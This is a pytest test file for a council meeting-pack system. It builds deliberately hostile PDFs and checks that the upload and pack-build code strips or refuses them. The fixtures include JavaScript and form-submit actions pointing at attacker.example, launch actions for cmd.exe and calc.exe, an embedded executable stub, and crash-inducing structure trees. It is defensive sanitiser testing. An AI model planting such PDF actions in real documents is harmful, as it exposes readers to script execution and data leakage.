"""Uploads that cannot break an agenda pack (issue 8): every PDF an officer or a clerk uploads is
checked the way a pack reads it, outside the transaction, and stored normalised: no scripts, no
launch links, no embedded files, no structure tree the pack's merge cannot digest, no more pages
than the limit, never encrypted. Each crafted file is made here with pikepdf, uploaded through the
real service, and then bound into a pack that must build."""

import hashlib
import io
import time
from datetime import date

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String

from council.documents import PdfSection, assemble_pdf, render_pdf
from council.models import AuditEntry
from council.roles import Role
from meetings.models import AgendaItem, AgendaPack, StandardItem
from meetings.packs.build import PackBuildError, build_pack
from meetings.services import agenda_item_document_set
from reports.models import Appendix
from reports.services import appendix_add, report_submit
from tests.meetings.factories import (
    MEETING_DATE,
    clerk,
    meeting_called,
    report_approved_with,
    report_item,
    travel_to,
)
from tests.reports.factories import ReportFactory, approvals_complete, officer_user, report_ready

pytestmark = pytest.mark.django_db

DAMAGED = (
    "This PDF is damaged and cannot be read: open it, save or export it as a PDF again, "
    "and upload the new copy."
)
ENCRYPTED = "This PDF is encrypted: upload a copy without a password or encryption."
FIFTY_THOUSAND = (
    "This PDF has 50,000 pages; the limit is 1,000. "
    "Split it into smaller documents of up to 1,000 pages each and upload them separately."
)
COUNCIL_SITE = "https://www.ravensmoor.gov.uk/minutes"
SCRIPT = String("app.launchURL('https://attacker.example/', true);")


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.DOCUMENTS_ROOT = tmp_path


# -- Crafted PDFs ----------------------------------------------------------------------------------


def _pdf(pages: int = 2, *, tagged: bool = False) -> pikepdf.Pdf:
    """A PDF of A4 pages saying "Minutes page N"; `tagged`, each page's text a P element (MCID 0)."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    document = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Document))
    elements, nums = [], []
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        text = f"BT /F1 14 Tf 72 760 Td (Minutes page {number}) Tj ET"
        if tagged:
            text = f"/P <</MCID 0>> BDC {text} EMC"
            element = pdf.make_indirect(
                Dictionary(Type=Name.StructElem, S=Name.P, P=document, Pg=page.obj, K=0)
            )
            elements.append(element)
            page.obj.StructParents = number - 1
            nums += [number - 1, Array([element])]
        page.obj.Contents = pdf.make_stream(text.encode())
    if tagged:
        document.K = Array(elements)
        tree = pdf.make_indirect(
            Dictionary(
                Type=Name.StructTreeRoot,
                K=document,
                ParentTree=pdf.make_indirect(Dictionary(Nums=Array(nums))),
                ParentTreeNextKey=pages,
            )
        )
        document.P = tree
        pdf.Root.StructTreeRoot = tree
        pdf.Root.MarkInfo = Dictionary(Marked=True)
    return pdf


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    output = io.BytesIO()
    pdf.save(output, **options)
    return output.getvalue()


def _upload(data: bytes, name: str = "minutes.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def _parent_tree_loop() -> bytes:
    """The probe's first file: the parent tree's /Kids come back round (RecursionError in the merge)."""
    pdf = _pdf(tagged=True)
    tree = pdf.Root.StructTreeRoot
    leaf = tree.ParentTree
    top = pdf.make_indirect(Dictionary(Kids=Array([leaf])))
    leaf.Kids = Array([top])
    tree.ParentTree = top
    return _saved(pdf)


def _parent_tree_name_key() -> bytes:
    """The probe's second file: a parent tree key that is a name, not a number (TypeError)."""
    pdf = _pdf(tagged=True)
    nums = pdf.Root.StructTreeRoot.ParentTree.Nums
    pdf.Root.StructTreeRoot.ParentTree.Nums = Array([Name.Zero, nums[1], nums[2], nums[3]])
    return _saved(pdf)


def _pages(count: int, *, declared: int | None = None) -> bytes:
    """`count` pages in a small file: one page object listed `count` times in the page tree."""
    pdf = _pdf(1)
    page = pdf.pages[0].obj
    pdf.Root.Pages.Kids = Array([page] * count)
    pdf.Root.Pages.Count = count
    data = _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    if declared is None:
        return data
    # qpdf writes the true /Count; a file that understates it is edited in place, length unchanged.
    true, false = f"/Count {count}".encode(), f"/Count {declared}".encode()
    return data.replace(true, false.ljust(len(true)))


def _javascript(**entries) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=SCRIPT, **entries)


def _link(action: Dictionary | None = None, *, y: int = 700, **entries) -> Dictionary:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, y, 300, y + 14]), **entries)
    if action is not None:
        link.A = action
    return link


def _open_scripts() -> bytes:
    """JavaScript run on opening: the open action, a document script and document actions."""
    pdf = _pdf()
    pdf.Root.OpenAction = _javascript()
    pdf.Root.AA = Dictionary(WC=_javascript(), WP=_javascript())
    pdf.Root.Names = Dictionary(
        JavaScript=pdf.make_indirect(Dictionary(Names=Array([String("init"), _javascript()])))
    )
    return _saved(pdf)


def _page_actions() -> bytes:
    """Actions run when a page opens or closes (page /AA): a script and a program launch."""
    pdf = _pdf()
    for page in pdf.pages:
        page.obj.AA = Dictionary(
            O=_javascript(), C=Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\cmd.exe"))
        )
    return _saved(pdf)


def _links() -> bytes:
    """Page 1: a web link, a link to page 2, and links that run a script, launch a program, submit
    a form, go to a javascript: address, or open a web page and then run a script (/Next)."""
    pdf = _pdf()
    second = pdf.pages[1].obj
    pdf.pages[0].obj.Annots = Array(
        [
            _link(Dictionary(S=Name.URI, URI=String(COUNCIL_SITE)), y=700),
            _link(Dictionary(S=Name.GoTo, D=Array([second, Name.Fit])), y=680),
            _link(_javascript(), y=660),
            _link(Dictionary(S=Name.Launch, F=String("calc.exe")), y=640),
            _link(Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/")), y=620),
            _link(Dictionary(S=Name.URI, URI=String(" JavaScript:alert(1)")), y=600),
            _link(Dictionary(S=Name.URI, URI=String(COUNCIL_SITE + "/2025"), Next=_javascript()), y=580),
        ]
    )
    return _saved(pdf)


def _embedded_file() -> bytes:
    """An attachment three ways: the document's embedded files, a file-attachment annotation and a
    page's associated file (/AF)."""
    pdf = _pdf()
    payload = pdf.make_stream(b"MZ not really a program", Type=Name.EmbeddedFile)
    spec = pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=payload))
    )
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), spec])))
    page = pdf.pages[0].obj
    page.Annots = Array(
        [
            Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 700, 90, 718]), FS=spec),
            _link(Dictionary(S=Name.URI, URI=String(COUNCIL_SITE)), y=600),
        ]
    )
    page.AF = Array([spec])
    return _saved(pdf)


def _form_scripts() -> bytes:
    """A form with an XFA script and a field that runs JavaScript on a key press and submits itself."""
    pdf = _pdf()
    page = pdf.pages[0].obj
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            Rect=Array([72, 500, 300, 520]),
            P=page,
            AA=Dictionary(K=_javascript()),
            A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/")),
        )
    )
    page.Annots = Array([field])
    xfa = pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa)
    return _saved(pdf)


ENCRYPTIONS = {
    "aes-256": {"R": 6, "aes": True},
    "aes-128": {"R": 4, "aes": True},
    "rc4-128": {"R": 3, "aes": False},
    "rc4-40": {"R": 2, "aes": False},
}


def _encrypted(method: str, user_password: str) -> bytes:
    options = ENCRYPTIONS[method]
    encryption = pikepdf.Encryption(
        owner="owner-secret", user=user_password, metadata=options["R"] >= 4, **options
    )
    return _saved(_pdf(), encryption=encryption)


# -- Reading files back ----------------------------------------------------------------------------


def _dictionaries(pdf: pikepdf.Pdf):
    """Every dictionary in the file, indirect or inside another object."""
    stack = list(pdf.objects)
    while stack:
        obj = stack.pop()
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            yield obj
            stack.extend(v for v in obj.values() if isinstance(v, pikepdf.Object) and not v.is_indirect)
        elif isinstance(obj, pikepdf.Array):
            stack.extend(v for v in obj if isinstance(v, pikepdf.Object) and not v.is_indirect)


def _active_content(data: bytes) -> set[str]:
    """What in the file could run, launch, submit or carry a file."""
    found = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        for obj in _dictionaries(pdf):
            kind = obj.get("/S")
            if kind in (Name.JavaScript, Name.Launch, Name.SubmitForm, Name.ImportData, Name.ResetForm):
                found.add(str(kind))
            if obj.get("/Subtype") == Name.FileAttachment or obj.get("/Type") == Name.EmbeddedFile:
                found.add("embedded file")
            found.update(
                key for key in ("/JS", "/AA", "/OpenAction", "/EmbeddedFiles", "/XFA", "/AF") if key in obj
            )
    return found


def _links_on(data: bytes, index: int) -> list[tuple[str, object]]:
    """The links on a page: ("uri", address), ("page", the index of the page they go to), or any
    other action as (its type, None)."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pages = [page.obj.objgen for page in pdf.pages]
        found = []
        for annot in pdf.pages[index].obj.get("/Annots", ()):
            action = annot.get("/A")
            if action is None:
                found.append(("page", pages.index(annot.Dest[0].objgen)))
            elif str(action.S) == "/URI":
                found.append(("uri", str(action.URI)))
            elif str(action.S) == "/GoTo":
                found.append(("page", pages.index(action.D[0].objgen)))
            else:
                found.append((str(action.S), None))
        return found


def _stored(field) -> bytes:
    with field.open("rb") as file:
        return file.read()


def _minutes(meeting) -> AgendaItem:
    return meeting.items.get(standard_item=StandardItem.PREVIOUS_MINUTES)


def _minutes_with(data: bytes):
    """A meeting whose previous minutes are `data`, uploaded by the clerk through the service."""
    by = clerk()
    meeting = meeting_called(on=MEETING_DATE, by=by)
    item = agenda_item_document_set(item=_minutes(meeting), document=_upload(data), by=by)
    return meeting, item


def _public_pack(meeting) -> bytes:
    return build_pack(meeting=meeting, variant=AgendaPack.Variant.PUBLIC, published_only=False).assembled.pdf


def _appendix_with(data: bytes, report=None) -> Appendix:
    report = report or ReportFactory()
    return appendix_add(
        report=report,
        label="Appendix 1",
        title="Site plan",
        kind=Appendix.Kind.UPLOADED,
        upload=_upload(data, "site-plan.pdf"),
        by=report.created_by,
    )


def _refusal(data: bytes) -> list[str]:
    report = ReportFactory()
    with pytest.raises(ValidationError) as error:
        _appendix_with(data, report)
    assert Appendix.objects.count() == 0
    assert report.versions.count() == 1
    return error.value.message_dict["file"]


# -- Structure trees -------------------------------------------------------------------------------


def test_upload_parent_tree_loop_replaced_by_figures_as_the_pack_tags_pages():
    """Issue 8: a parent tree that loops passed the old check and then broke every build of the
    pack with a RecursionError. Now the tree is replaced on upload: each page tagged as the pack
    tags an untagged upload, one Figure with alternative text, the old marked content unmarked."""
    data = _parent_tree_loop()
    with pytest.raises(RecursionError):
        assemble_pdf([PdfSection(pdf=data)], title="The merge before issue 8")

    meeting, item = _minutes_with(data)

    stored = _stored(item.document)
    assert (item.document_pages, item.document_sha256) == (2, hashlib.sha256(stored).hexdigest())
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        (document,) = pdf.Root.StructTreeRoot.K
        assert [(str(kid.S), str(kid.Alt), kid.K) for kid in document.K] == [
            ("/Figure", "Minutes of the previous meeting, page 1 of 2", 0),
            ("/Figure", "Minutes of the previous meeting, page 2 of 2", 0),
        ]
        assert [page.obj.StructParents for page in pdf.pages] == [0, 1]
        assert [b"".join(s.read_bytes() for s in page.obj.Contents) for page in pdf.pages] == [
            b"/Figure <</MCID 0>> BDC\nq\n/P BMC\nBT\n/F1 14 Tf\n72 760 Td\n(Minutes page 1) Tj\nET\nEMC\nQ\nEMC\n",
            b"/Figure <</MCID 0>> BDC\nq\n/P BMC\nBT\n/F1 14 Tf\n72 760 Td\n(Minutes page 2) Tj\nET\nEMC\nQ\nEMC\n",
        ]
    assert AuditEntry.objects.filter(action=AuditEntry.Action.CHANGED).get().note == (
        "Document added (2 pages) (normalised for publishing: structure tree (the parent tree loops))"
    )
    with pikepdf.open(io.BytesIO(_public_pack(meeting))) as pack:
        parts = pack.Root.StructTreeRoot.K[0].K
        (minutes,) = [part for part in parts if part.get("/T") == "Minutes"]
        assert [(str(kid.S), str(kid.Alt)) for kid in minutes.K] == [
            ("/Figure", "Minutes of the previous meeting, page 1 of 2"),
            ("/Figure", "Minutes of the previous meeting, page 2 of 2"),
        ]


def test_upload_parent_tree_name_key_replaced_and_report_pack_builds(time_machine):
    """Issue 8: a parent tree key that is a name (TypeError in the merge), uploaded as an appendix
    of a report that then goes on an agenda: the pack with the report and its appendix builds."""
    data = _parent_tree_name_key()
    with pytest.raises(TypeError):
        assemble_pdf([PdfSection(pdf=data)], title="The merge before issue 8")
    travel_to(time_machine, date(2025, 6, 2))
    by = clerk()
    meeting = meeting_called(on=MEETING_DATE, by=by)
    report = report_ready(committee=meeting.committee, meeting_date=MEETING_DATE, title="Play Area Renewal")

    appendix = _appendix_with(data, report)
    report_submit(report=report, by=report.created_by)
    report_item(meeting, report=approvals_complete(report), by=by)

    with pikepdf.open(io.BytesIO(_stored(appendix.file))) as pdf:
        (document,) = pdf.Root.StructTreeRoot.K
        assert [str(kid.Alt) for kid in document.K] == [
            "Appendix 1 – Site plan, page 1 of 2",
            "Appendix 1 – Site plan, page 2 of 2",
        ]
    built = build_pack(meeting=meeting, variant=AgendaPack.Variant.PUBLIC, published_only=False)
    assert built.assembled.section_pages[-1] == 2
    assert appendix.page_count == 2


def test_upload_tagged_pdf_kept_byte_for_byte_with_its_structure_tree():
    """A well-made tagged PDF (as Witan's own renderer makes) needs no change: it is stored as
    uploaded, and its hash is the upload's."""
    data = render_pdf(
        html='<!doctype html><html lang="en-GB"><head><meta charset="utf-8"></head>'
        "<body><h1>Site plan</h1><p>The play area.</p></body></html>",
        title="Site plan",
    )

    appendix = _appendix_with(data)

    assert _stored(appendix.file) == data
    assert (appendix.page_count, appendix.sha256) == (1, hashlib.sha256(data).hexdigest())


# -- Page limits -----------------------------------------------------------------------------------


def test_upload_fifty_thousand_pages_refused_before_the_transaction():
    """Issue 8: 50,000 pages in a small file were parsed for 9-15 s inside the transaction, holding
    the report's lock. Now they are counted in the page tree, before any query, in milliseconds."""
    data = _pages(50_000)
    assert len(data) < 1024 * 1024
    report = ReportFactory()

    started = time.perf_counter()
    with CaptureQueriesContext(connection) as queries, pytest.raises(ValidationError) as error:
        _appendix_with(data, report)
    elapsed = time.perf_counter() - started

    assert error.value.message_dict == {"file": [FIFTY_THOUSAND]}
    assert len(queries) == 0  # refused before the transaction opened, so no lock was ever taken
    assert elapsed < 5  # about 0.1 s; pypdf took 9-15 s
    assert Appendix.objects.count() == 0


def test_upload_page_limit_comes_from_the_setting(settings):
    settings.WITAN = {**settings.WITAN, "UPLOAD_MAX_PAGES": 2}

    assert _refusal(_pages(3)) == [
        "This PDF has 3 pages; the limit is 2. "
        "Split it into smaller documents of up to 2 pages each and upload them separately."
    ]


def test_upload_page_limit_holds_when_the_file_understates_its_count():
    """/Count says 1; the page tree lists 1,001 pages."""
    assert _refusal(_pages(1001, declared=1)) == [
        "This PDF has more than 1,000 pages; the limit is 1,000. "
        "Split it into smaller documents of up to 1,000 pages each and upload them separately."
    ]


def test_upload_at_the_page_limit_accepted(settings):
    settings.WITAN = {**settings.WITAN, "UPLOAD_MAX_PAGES": 3}

    assert _appendix_with(_pages(3)).page_count == 3


# -- Active content --------------------------------------------------------------------------------


def test_upload_open_action_and_document_scripts_removed_and_pack_builds():
    """Issue 8: JavaScript run on opening the document is taken out of the stored file and so out
    of the public pack."""
    meeting, item = _minutes_with(_open_scripts())

    stored = _stored(item.document)
    assert _active_content(stored) == set()
    pack = _public_pack(meeting)
    assert _active_content(pack) == set()
    assert AuditEntry.objects.get(action=AuditEntry.Action.CHANGED).note == (
        "Document added (2 pages) (normalised for publishing: JavaScript)"
    )


def test_upload_page_open_actions_removed_and_pack_builds():
    """Issue 8: page /AA (run when a page opens or closes) survived into the public pack."""
    meeting, item = _minutes_with(_page_actions())

    with pikepdf.open(io.BytesIO(_stored(item.document))) as pdf:
        assert ["/AA" in page.obj for page in pdf.pages] == [False, False]
    assert _active_content(_public_pack(meeting)) == set()
    assert AuditEntry.objects.get(action=AuditEntry.Action.CHANGED).note == (
        "Document added (2 pages) (normalised for publishing: JavaScript, launch actions)"
    )


def test_upload_script_and_launch_links_removed_web_and_internal_links_kept():
    """Issue 8: JavaScript and /Launch links survived into the public pack. Web links and links
    within the document stay; a web link that then ran a script (/Next) keeps only the web page."""
    meeting, item = _minutes_with(_links())

    stored = _stored(item.document)
    assert _links_on(stored, 0) == [("uri", COUNCIL_SITE), ("page", 1), ("uri", COUNCIL_SITE + "/2025")]
    assert _active_content(stored) == set()
    pack = _public_pack(meeting)
    assert _active_content(pack) == set()
    assert _links_on(pack, 1) == [("uri", COUNCIL_SITE), ("page", 2), ("uri", COUNCIL_SITE + "/2025")]
    assert AuditEntry.objects.get(action=AuditEntry.Action.CHANGED).note == (
        "Document added (2 pages) (normalised for publishing: form actions, JavaScript, launch actions)"
    )


def test_upload_embedded_files_removed_and_web_link_kept():
    meeting, item = _minutes_with(_embedded_file())

    stored = _stored(item.document)
    assert _active_content(stored) == set()
    assert _links_on(stored, 0) == [("uri", COUNCIL_SITE)]
    assert _active_content(_public_pack(meeting)) == set()


def test_upload_form_scripts_and_field_actions_removed():
    meeting, item = _minutes_with(_form_scripts())

    stored = _stored(item.document)
    assert _active_content(stored) == set()
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert [str(field.T) for field in pdf.Root.AcroForm.Fields] == ["name"]  # the form itself stays
    assert _active_content(_public_pack(meeting)) == set()


# -- Encryption ------------------------------------------------------------------------------------


@pytest.mark.parametrize("user_password", ["", "reader-secret"], ids=["owner-password", "user-password"])
@pytest.mark.parametrize("method", list(ENCRYPTIONS))
def test_upload_encrypted_pdf_refused(method, user_password):
    """Issue 8: AES-256 answered 500 (pypdf needed `cryptography`). Every kind of encryption, with
    or without a password to open it, is refused with the same message."""
    assert _refusal(_encrypted(method, user_password)) == [ENCRYPTED]


def test_upload_damaged_pdf_refused():
    assert _refusal(b"%PDF-1.7\n garbage without any objects") == [DAMAGED]


# -- Files stored before the check -----------------------------------------------------------------


def _stored_before_the_check(data: bytes):
    """A meeting whose minutes were stored as uploaded, before uploads were checked (issue 8)."""
    meeting = meeting_called(on=MEETING_DATE, by=clerk())
    item = _minutes(meeting)
    item.document.save("old-minutes.pdf", ContentFile(data), save=False)
    item.document_pages, item.document_sha256 = 2, hashlib.sha256(data).hexdigest()
    item.save()
    return meeting


def test_pack_build_normalises_an_upload_stored_before_the_check():
    """Issue 8: an upload stored before the check (a looping tree and script links) is normalised
    by the build, so the pack builds and carries no script."""
    pdf = pikepdf.open(io.BytesIO(_parent_tree_loop()))
    pdf.pages[0].obj.Annots = Array([_link(_javascript()), _link(Dictionary(S=Name.URI, URI=COUNCIL_SITE))])
    meeting = _stored_before_the_check(_saved(pdf))

    pack = _public_pack(meeting)

    assert _active_content(pack) == set()
    assert _links_on(pack, 1) == [("uri", COUNCIL_SITE)]
    assert _public_pack(meeting) == pack  # the second build reuses the verdict, and agrees


def test_pack_build_refuses_an_upload_stored_before_the_check_that_it_cannot_bind():
    """Issue 8: the build fails with a message naming the document and why, not after minutes of
    merging 50,000 pages (or with a RecursionError)."""
    meeting = _stored_before_the_check(_pages(50_000))

    with pytest.raises(PackBuildError) as error:
        _public_pack(meeting)

    assert str(error.value) == (
        "The uploaded file for “Minutes” of the item “Minutes of the previous meeting” cannot be bound "
        f"into the pack: {FIFTY_THOUSAND}"
    )


# -- Through the pages -----------------------------------------------------------------------------


def test_appendix_upload_page_shows_the_refusal_on_the_field_and_keeps_what_was_typed(client):
    author = officer_user(Role.REPORT_AUTHOR, name="Sam Writer")
    report = ReportFactory(by=author, title="Grass Cutting Review")
    client.force_login(author)

    response = client.post(
        reverse("reports:report_appendices", args=[report.pk]),
        {
            "action": "upload",
            "upload-label": "Appendix B",
            "upload-title": "Cutting schedule",
            "upload-file": _upload(_pages(50_000), "schedule.pdf"),
        },
    )

    assert response.status_code == 400
    form = response.context["upload_form"]
    assert form.errors == {"file": [FIFTY_THOUSAND]}
    assert (form["label"].value(), form["title"].value()) == ("Appendix B", "Cutting schedule")
    html = response.content.decode()
    assert ('value="Appendix B"' in html, 'value="Cutting schedule"' in html) == (True, True)
    assert report.appendices.count() == 0


def test_staff_item_document_page_shows_the_refusal_on_the_field_and_keeps_the_meeting_chosen(
    clerk_client, time_machine
):
    time_machine.move_to(date(2026, 11, 2))
    meeting = meeting_called(on=date(2026, 12, 8))
    previous = meeting_called(committee=meeting.committee, on=date(2026, 10, 13))
    item = _minutes(meeting)

    response = clerk_client.post(
        reverse("meetings_staff:agenda_item_document", args=[meeting.pk, item.pk]),
        {"document-document": _upload(_encrypted("aes-256", "")), "document-minutes_of": previous.pk},
    )

    assert response.status_code == 400
    form = response.context["document_form"]
    assert form.errors == {"document": [ENCRYPTED]}
    assert form["minutes_of"].value() == str(previous.pk)
    assert f'<option value="{previous.pk}" selected>' in response.content.decode()
    item.refresh_from_db()
    assert not item.document


def test_upload_retagged_for_an_exempt_title_item_names_it_as_the_public_may_r4(time_machine):
    """R4: pages tagged afresh on upload keep their alternative text in the stored file, which the
    public pack binds: an item whose report's title is exempt is named "Exempt item" there."""
    travel_to(time_machine, date(2025, 6, 2))
    by = clerk()
    meeting = meeting_called(on=MEETING_DATE, by=by)
    report = report_approved_with(
        committee=meeting.committee,
        meeting_date=MEETING_DATE,
        title="Dismissal appeal of the Head of Parking",
        is_exempt=True,
        exempt_paragraphs=[1],
        title_is_exempt=True,
        public_interest_reason="It names an employee.",
    )
    item = report_item(meeting, report=report, by=by)

    item = agenda_item_document_set(item=item, document=_upload(_parent_tree_loop()), by=by)

    with pikepdf.open(io.BytesIO(_stored(item.document))) as pdf:
        (document,) = pdf.Root.StructTreeRoot.K
        assert [str(kid.Alt) for kid in document.K] == [
            "Exempt item, page 1 of 2",
            "Exempt item, page 2 of 2",
        ]
